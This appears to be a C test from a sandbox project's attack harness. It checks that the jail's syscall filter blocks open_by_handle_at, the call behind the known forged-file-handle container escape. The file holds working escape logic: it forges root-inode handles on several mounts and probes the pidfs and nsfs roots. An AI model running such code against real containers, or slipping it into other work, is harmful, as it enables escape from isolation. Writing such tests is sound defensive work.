/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Attack: opens the root of the file system that lies below the sandbox by a forged file
 *   handle (open_by_handle_at, the way out of early containers), on every mount there is, and
 *   on the kernel's own process and namespace file systems.
 * Stopped by: the filter (open_by_handle_at is not on the list); behind it, the call wants
 *   CAP_DAC_READ_SEARCH in the initial user namespace or over the mount.
 * Lives in: src/jail/filter.c.
 *
 * Control: root
 */
#include "../harness/attack.h"

#define PIDFS_ROOT (-10002)
#define NSFS_ROOT  (-10003)

struct handle {
    unsigned int bytes;
    int type;
    unsigned char data[128];
};

static void open_handle(int mount_fd, struct handle *handle, const char *what)
{
    long fd = syscall(SYS_open_by_handle_at, mount_fd, handle, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        blocked("%s, handle type %d: %s", what, handle->type, strerror(errno));
        return;
    }
    char path[4200];
    snprintf(path, sizeof(path), "./%s", bait("FILE"));
    if (!path_has_bait((int)fd, path, "below a forged handle"))
        got("%s: a handle of type %d opened", what, handle->type);
    close((int)fd);
}

static void forge(const char *mount)
{
    int mount_fd = open(mount, O_RDONLY | O_CLOEXEC);
    if (mount_fd < 0)
        return;
    struct handle own = {.bytes = sizeof(own.data)};
    int mount_id = 0;
    if (syscall(SYS_name_to_handle_at, AT_FDCWD, mount, &own, &mount_id, 0) == 0)
        open_handle(mount_fd, &own, mount);
    else
        blocked("name_to_handle_at %s: %s", mount, strerror(errno));
    /* FILEID_INO32_GEN of the roots of ext4 (2), xfs (128), btrfs and tmpfs-like (256, 1). */
    static const uint32_t roots[] = {2, 128, 256, 1};
    for (size_t i = 0; i < COUNT(roots); i++) {
        struct handle forged = {.bytes = 8, .type = 1};
        memcpy(forged.data, &roots[i], sizeof(roots[i]));
        open_handle(mount_fd, &forged, mount);
    }
    close(mount_fd);
}

static void special(int root, const char *what)
{
    for (uint64_t id = 1; id <= 16; id++) {
        struct handle forged = {.bytes = root == NSFS_ROOT ? 16 : 8,
                                .type = root == NSFS_ROOT ? 0xf1 : 0x81};
        memcpy(forged.data, &id, sizeof(id));
        long fd = syscall(SYS_open_by_handle_at, root, &forged, O_RDONLY | O_CLOEXEC);
        if (fd >= 0)
            got("%s: opened number %lu", what, (unsigned long)id);
    }
    blocked("%s: %s", what, strerror(errno));
}

void attack(void)
{
    static const char *const mounts[] = {"/",    "/tmp", "/dev",      "/proc",
                                         "/usr", "/etc", "/dev/null", "/proc/self/exe"};
    for (size_t i = 0; i < COUNT(mounts); i++)
        forge(mounts[i]);
    special(PIDFS_ROOT, "pidfs");
    special(NSFS_ROOT, "nsfs");
}
